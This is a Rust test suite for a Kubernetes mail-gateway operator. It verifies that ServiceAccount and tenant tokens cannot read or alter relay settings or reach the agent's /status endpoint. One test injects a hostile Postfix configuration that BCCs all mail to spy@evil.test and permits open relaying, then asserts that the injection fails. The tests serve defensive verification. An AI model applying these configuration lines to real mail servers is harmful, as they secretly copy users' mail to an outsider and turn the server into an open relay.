//! Least privilege around the gateway pods, asked with tokens the API server issues, not
//! the admin's. The agent's ServiceAccount, as the operator creates it, may read the
//! MailRelays of its namespace (no ConfigMap), and write nothing. A tenant with the
//! aggregated `edit` role in the gateway's namespace may neither read the MailRelays (they
//! hold recipient lists) nor write one (they add domains and recipients), and nothing it
//! may write changes what a running replica answers or where its mail goes.

use k8s_openapi::api::core::v1::{ConfigMap, Secret};
use kube::Client;
use kube::api::{Api, ListParams, Patch, PatchParams, PostParams};
use mx_operator::api::{MailGateway, MailRelay};
use mx_operator_tests::control_plane::Lifetime;
use mx_operator_tests::fixtures::{apply, apply_dynamic, gateway};
use mx_operator_tests::gateway::Gateway;
use mx_operator_tests::operator::namespace_with_operator;
use mx_operator_tests::smtp::rcpt_reply;
use mx_operator_tests::wait::until;
use mx_operator_tests::{ControlPlane, TestNamespace};
use serde_json::json;
use std::time::Duration;

const LIMIT: Duration = Duration::from_secs(30);

fn forbidden<T: std::fmt::Debug>(result: Result<T, kube::Error>, what: &str) {
    match result {
        Err(kube::Error::Api(status)) if status.code == 403 => {}
        other => panic!("{what}: expected 403 Forbidden, got {other:?}"),
    }
}

async fn token_client(plane: &ControlPlane, ns: &TestNamespace, account: &str) -> Client {
    let token = ns.service_account_token(account).await;
    let (client, _) = plane
        .token_client(&format!("{}-{account}", ns.name), &token)
        .await
        .unwrap();
    client
}

fn relay(name: &str) -> MailRelay {
    serde_json::from_value(json!({
        "apiVersion": "mx-operator.io/v1alpha1", "kind": "MailRelay",
        "metadata": {"name": name, "labels": {"mx-operator.io/relay-for": "edge"}},
        "data": {"domain": "evil.test", "relay_domains": "evil.test OK\n"}
    }))
    .unwrap()
}

/// Neither a new MailRelay nor a change of the operator's.
async fn may_not_write_relays(relays: &Api<MailRelay>) {
    forbidden(
        relays
            .create(&PostParams::default(), &relay("relay-evil.test"))
            .await,
        "creating a MailRelay",
    );
    forbidden(
        relays
            .patch(
                "relay-shop.example",
                &PatchParams::default(),
                &Patch::Merge(json!({"data": {"relay_recipients": "mallory@shop.example OK\n"}})),
            )
            .await,
        "changing a MailRelay",
    );
}

#[tokio::test]
async fn the_gateway_token_reads_the_relays_and_nothing_else() {
    let (plane, ns) = namespace_with_operator("privilege").await;
    let other = plane.namespace("privilege-other").await.unwrap();
    apply::<MailGateway>(&ns, gateway("edge", json!({}))).await;
    apply_dynamic(
        &ns,
        json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "users"},
               "data": {"list": "alice@example.com\n"}}),
    )
    .await;
    let agent = token_client(plane, &ns, "edge-agent").await;

    // What the agent needs: the MailRelays (its gateway's own, read and watched by name,
    // and the domains'). The Role and its binding are applied by the gateway reconcile, a
    // moment after the ServiceAccount.
    let relays: Api<MailRelay> = Api::namespaced(agent.clone(), &ns.name);
    let by_name = ListParams::default().fields("metadata.name=gateway-edge");
    until(
        LIMIT,
        "the agent may list its gateway's MailRelay",
        || async {
            relays
                .list(&by_name)
                .await
                .ok()
                .filter(|l| !l.items.is_empty())
        },
    )
    .await;
    relays
        .get("gateway-edge")
        .await
        .expect("read its gateway's MailRelay");

    // Everything else is refused: no ConfigMap is read, not even the one agents of earlier
    // versions read.
    let own: Api<ConfigMap> = Api::namespaced(agent.clone(), &ns.name);
    forbidden(own.get("users").await, "reading a ConfigMap");
    forbidden(
        own.get("edge-config").await,
        "reading the legacy gateway ConfigMap",
    );
    forbidden(
        own.list(&ListParams::default()).await,
        "listing every ConfigMap",
    );
    let smuggled: ConfigMap = serde_json::from_value(json!({
        "metadata": {"name": "relay-evil.test"}, "data": {"domain": "evil.test"}
    }))
    .unwrap();
    forbidden(
        own.create(&PostParams::default(), &smuggled).await,
        "creating a ConfigMap",
    );
    forbidden(
        own.delete("edge-config", &Default::default()).await,
        "deleting a ConfigMap",
    );
    may_not_write_relays(&relays).await;
    forbidden(
        Api::<Secret>::namespaced(agent.clone(), &ns.name)
            .list(&ListParams::default())
            .await,
        "listing Secrets",
    );
    forbidden(
        Api::<ConfigMap>::namespaced(agent.clone(), &other.name)
            .list(&ListParams::default())
            .await,
        "ConfigMaps of another namespace",
    );
    forbidden(
        Api::<MailRelay>::namespaced(agent.clone(), &other.name)
            .list(&ListParams::default())
            .await,
        "MailRelays of another namespace",
    );
    forbidden(
        Api::<MailGateway>::namespaced(agent, &ns.name)
            .list(&ListParams::default())
            .await,
        "MailGateways",
    );
}

#[tokio::test]
async fn a_tenant_with_edit_in_the_gateway_namespace_can_neither_read_nor_write_relays() {
    let (plane, ns) = namespace_with_operator("tenant-edit").await;
    apply::<MailGateway>(&ns, gateway("edge", json!({}))).await;
    let md = json!({"apiVersion": "mx-operator.io/v1alpha1", "kind": "MailDomain",
        "metadata": {"name": "shop"},
        "spec": {"domain": "shop.example", "gatewayRef": {"name": "edge"},
                 "primary": {"host": "mail.shop.example"},
                 "recipients": {"inline": ["alice@shop.example"]}}});
    apply_dynamic(&ns, md).await;
    let admin_relays: Api<MailRelay> = ns.api();
    until(LIMIT, "the operator's MailRelay", || async {
        admin_relays.get_opt("relay-shop.example").await.ok()?
    })
    .await;
    let tenant = tenant_with_edit(plane, &ns).await;

    // The tenant really holds `edit` (its rules are aggregated by the controller manager):
    // it may create ConfigMaps and Secrets here, labelled as it likes.
    let configmaps: Api<ConfigMap> = Api::namespaced(tenant.clone(), &ns.name);
    let labelled: ConfigMap = serde_json::from_value(json!({
        "metadata": {"name": "relay-evil.test", "labels": {"mx-operator.io/relay-for": "edge"}},
        "data": {"domain": "evil.test", "relay_domains": "evil.test OK\n"}
    }))
    .unwrap();
    until(LIMIT, "the tenant may create ConfigMaps", || async {
        configmaps
            .create(&PostParams::default(), &labelled)
            .await
            .ok()
    })
    .await;
    Api::<Secret>::namespaced(tenant.clone(), &ns.name)
        .list(&ListParams::default())
        .await
        .expect("edit reads Secrets");

    // But no MailRelay: not listed, not read, not created, not changed.
    let relays: Api<MailRelay> = Api::namespaced(tenant, &ns.name);
    forbidden(
        relays.list(&ListParams::default()).await,
        "listing MailRelays",
    );
    forbidden(
        relays.get("relay-shop.example").await,
        "reading a MailRelay",
    );
    may_not_write_relays(&relays).await;
}

/// A ServiceAccount `tenant` bound to the aggregated `edit` ClusterRole in `ns`, and a
/// client with its token once the role's rules apply.
async fn tenant_with_edit(plane: &ControlPlane, ns: &TestNamespace) -> Client {
    apply_dynamic(
        ns,
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "tenant"}}),
    )
    .await;
    apply_dynamic(
        ns,
        json!({"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding",
               "metadata": {"name": "tenant-edit"},
               "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "edit"},
               "subjects": [{"kind": "ServiceAccount", "name": "tenant", "namespace": ns.name}]}),
    )
    .await;
    token_client(plane, ns, "tenant").await
}

/// A replica of gateway `edge` whose agent runs with the token the API server issued to
/// its ServiceAccount, once it accepts alice@shop.example.
async fn replica_with_its_own_token(plane: &ControlPlane, ns: &TestNamespace) -> Gateway {
    let token = ns.service_account_token("edge-agent").await;
    let kubeconfig = plane.dir.join(format!("agent-{}.kubeconfig", ns.name));
    plane.write_kubeconfig(&kubeconfig, &token).unwrap();
    let replica = Gateway::start_on(
        &plane.dir.join(format!("gateway-{}", ns.name)),
        &kubeconfig,
        &ns.name,
        "edge",
        None,
        &[],
        Lifetime::TiedToThisProcess,
    )
    .await
    .expect("gateway replica");
    let smtp = replica.smtp;
    until(LIMIT, "alice accepted", || async {
        rcpt_reply(smtp, "x@client.test", "alice@shop.example")
            .ok()
            .filter(|r| r.code == 250)
    })
    .await;
    replica
}

/// The agent's `/status` (domains, queue, the primaries' deferral reasons) answers only
/// whoever presents the gateway's agent token, which its MailRelay holds: the operator
/// reads it, and no other token the API server issues, nor none, gets anything.
#[tokio::test]
async fn the_agent_status_answers_the_operator_and_no_other_token() {
    use mx_operator::api::MailDomain;
    use mx_operator_tests::fixtures::domain;
    use mx_operator_tests::gateway::{http_get_with, list_as_pods};
    use mx_operator_tests::wait::gateway_condition;

    let (plane, ns) = namespace_with_operator("status-token").await;
    apply::<MailGateway>(&ns, gateway("edge", json!({"replicas": 1}))).await;
    apply::<MailDomain>(
        &ns,
        domain(
            "shop",
            "shop.example",
            json!({"primary": {"host": "127.0.0.1", "port": 9, "tls": "None"},
                   "recipients": {"inline": ["alice@shop.example"]}}),
        ),
    )
    .await;
    let replica = replica_with_its_own_token(plane, &ns).await;
    list_as_pods(&ns, "edge", &[("edge-0", &replica)])
        .await
        .expect("pods");
    let gateways = ns.api::<MailGateway>();
    let asked = until(
        LIMIT,
        "the operator reading the agent's /status",
        || async {
            gateway_condition(&gateways, "edge", "QueueDrained")
                .await
                .filter(|c| {
                    c.reason == "NothingDraining" && c.message.starts_with("1 replicas asked")
                })
        },
    )
    .await;
    println!("MailGateway edge, QueueDrained: {}", asked.message);

    let agent = replica.agent_address;
    let _tenant = tenant_with_edit(plane, &ns).await;
    apply_dynamic(
        &ns,
        json!({"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": "prober"}}),
    )
    .await;
    let tokens = [
        ("none", None),
        (
            "another pod's ServiceAccount",
            Some(ns.service_account_token("prober").await),
        ),
        (
            "a tenant with edit",
            Some(ns.service_account_token("tenant").await),
        ),
        (
            "the agent's own ServiceAccount",
            Some(ns.service_account_token("edge-agent").await),
        ),
        ("a guess", Some("0".repeat(64))),
    ];
    for (who, token) in &tokens {
        let (code, body) = http_get_with(agent, "/status", token.as_deref()).expect("an answer");
        assert_eq!(code, 401, "{who}: {body}");
        assert!(!body.contains("shop.example"), "{who}: {body}");
    }
    let token = ns
        .api::<MailRelay>()
        .get("gateway-edge")
        .await
        .unwrap()
        .data
        .unwrap_or_default()
        .remove("agent-token")
        .expect("the gateway's MailRelay holds the agent token");
    assert_eq!(token.len(), 64, "{token}");
    let (code, body) = http_get_with(agent, "/status", Some(&token)).expect("an answer");
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("draining"), "{body}");
    // Metrics and probes stay open for the kubelet and the scraper.
    for path in ["/metrics", "/healthz", "/readyz"] {
        let (code, _) = http_get_with(agent, path, None).expect("an answer");
        assert_eq!(code, 200, "{path}");
    }
}

#[tokio::test]
async fn what_edit_in_the_gateway_namespace_may_write_changes_no_answer_and_copies_no_mail() {
    use mx_operator::api::MailDomain;
    use mx_operator::render::{GATEWAY_CONFIG_LABEL, RELAY_GATEWAY_LABEL, gateway_configmap_data};
    use mx_operator_tests::fixtures::domain;
    use mx_operator_tests::smtp::{Sink, relay_tricks, send};

    let (plane, ns) = namespace_with_operator("side-door").await;
    let sink = Sink::start().unwrap();
    apply::<MailGateway>(
        &ns,
        gateway("edge", json!({"mxHostnames": ["mx1.relay.test"]})),
    )
    .await;
    apply::<MailDomain>(
        &ns,
        domain(
            "shop",
            "shop.example",
            json!({"primary": {"host": "127.0.0.1", "port": sink.address.port(), "tls": "None"},
                   "recipients": {"inline": ["alice@shop.example"]}}),
        ),
    )
    .await;
    let replica = replica_with_its_own_token(plane, &ns).await;
    let smtp = replica.smtp;
    let tenant = tenant_with_edit(plane, &ns).await;

    // What the tenant writes, again and again: the gateway's configuration in the
    // ConfigMap earlier versions read, with a copy of all mail to a spy and relaying for
    // everyone; a relay ConfigMap for its own domain; and, refused, the MailRelays and the
    // MailGateway themselves.
    let spec = serde_json::from_value(json!({"mxHostnames": ["mx1.relay.test"]})).unwrap();
    let mut hostile = gateway_configmap_data("edge", &spec, None).unwrap();
    hostile.insert(
        "main.cf".into(),
        format!(
            "{}always_bcc = spy@evil.test\nsmtpd_relay_restrictions = permit\n",
            hostile["main.cf"]
        ),
    );
    let configmaps: Api<ConfigMap> = Api::namespaced(tenant.clone(), &ns.name);
    let relays: Api<MailRelay> = Api::namespaced(tenant.clone(), &ns.name);
    let gateways: Api<MailGateway> = Api::namespaced(tenant, &ns.name);
    let sending = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(true));
    // One client sends messages, another tries the relay tricks (each refusal is slowed
    // down by Postfix).
    let client = {
        let sending = sending.clone();
        std::thread::spawn(move || {
            let mut sent = Vec::new();
            while sending.load(std::sync::atomic::Ordering::Relaxed) {
                let n = sent.len();
                let body =
                    format!("Subject: {n}\r\nMessage-ID: <{n}-side@client.test>\r\n\r\nbody");
                sent.push(
                    send(smtp, "x@client.test", "alice@shop.example", &body)
                        .map(|r| r.code)
                        .map_err(|e| e.to_string()),
                );
                std::thread::sleep(Duration::from_millis(200));
            }
            sent
        })
    };
    let prober = {
        let sending = sending.clone();
        std::thread::spawn(move || {
            let (mut tried, mut relayed) = (0, Vec::new());
            while sending.load(std::sync::atomic::Ordering::Relaxed) {
                let (count, accepted) = relay_tricks(smtp, "shop.example", "mx1.relay.test");
                tried += count;
                relayed.extend(accepted);
            }
            (tried, relayed)
        })
    };
    let started = std::time::Instant::now();
    let (mut written, mut refused) = (0, 0);
    let mut round = 0;
    while started.elapsed() < Duration::from_secs(30) {
        let lines = format!("{}# {round}\n", hostile["main.cf"]);
        let mut data = hostile.clone();
        data.insert("main.cf".into(), lines);
        let side_door: ConfigMap = serde_json::from_value(json!({
            "metadata": {"name": "edge-config", "labels": {GATEWAY_CONFIG_LABEL: "edge"}},
            "data": data,
        }))
        .unwrap();
        let params = PatchParams::apply("tenant").force();
        if configmaps
            .patch("edge-config", &params, &Patch::Apply(&side_door))
            .await
            .is_ok()
        {
            written += 1;
        }
        let domain_door: ConfigMap = serde_json::from_value(json!({
            "metadata": {"name": "relay-evil.test", "labels": {RELAY_GATEWAY_LABEL: "edge"}},
            "data": {"domain": "evil.test", "relay_domains": format!("evil.test OK\n# {round}\n")},
        }))
        .unwrap();
        if configmaps
            .patch("relay-evil.test", &params, &Patch::Apply(&domain_door))
            .await
            .is_ok()
        {
            written += 1;
        }
        for result in [
            relays
                .patch(
                    "gateway-edge",
                    &PatchParams::default(),
                    &Patch::Merge(json!({"data": data})),
                )
                .await
                .map(|_| ()),
            gateways
                .patch(
                    "edge",
                    &PatchParams::default(),
                    &Patch::Merge(json!({"spec": {"replicas": 3}})),
                )
                .await
                .map(|_| ()),
        ] {
            match result {
                Err(kube::Error::Api(status)) if status.code == 403 => refused += 1,
                other => panic!("the tenant wrote what it may not: {other:?}"),
            }
        }
        round += 1;
        tokio::time::sleep(Duration::from_millis(300)).await;
    }
    sending.store(false, std::sync::atomic::Ordering::Relaxed);
    let (sent, (tried, relayed)) =
        tokio::task::spawn_blocking(move || (client.join().unwrap(), prober.join().unwrap()))
            .await
            .unwrap();
    println!(
        "side door: {round} rounds in {:?}: {written} ConfigMap writes taken, {refused} MailRelay and MailGateway writes refused; {} messages sent, {tried} relay tricks tried, {} accepted",
        started.elapsed(),
        sent.len(),
        relayed.len()
    );
    assert!(tried >= 10, "relay tricks were tried meanwhile: {tried}");
    assert!(
        written >= 2 * 50,
        "the tenant wrote its ConfigMaps: {written}"
    );
    assert!(
        sent.len() >= 10,
        "messages were sent meanwhile: {}",
        sent.len()
    );
    assert!(
        sent.iter().all(|r| r == &Ok(250)),
        "a message was not accepted: {sent:?}"
    );
    assert!(relayed.is_empty(), "relayed for the tenant: {relayed:?}");
    assert_eq!(
        rcpt_reply(smtp, "x@client.test", "someone@evil.test")
            .unwrap()
            .code,
        554
    );
    let received = until(LIMIT, "every message at the primary", || async {
        let received = sink.received();
        (received.len() >= sent.len()).then_some(received)
    })
    .await;
    assert!(
        received
            .iter()
            .all(|m| m.recipients == ["alice@shop.example"]),
        "a message went to another recipient"
    );
    let main_cf = std::fs::read_to_string(replica.dir.join("conf/main.cf")).unwrap();
    assert!(
        !main_cf.contains("always_bcc") && !main_cf.contains("= permit"),
        "{main_cf}"
    );
    assert_eq!(
        replica.log_count("spy@evil.test"),
        0,
        "a copy went to the spy"
    );
}
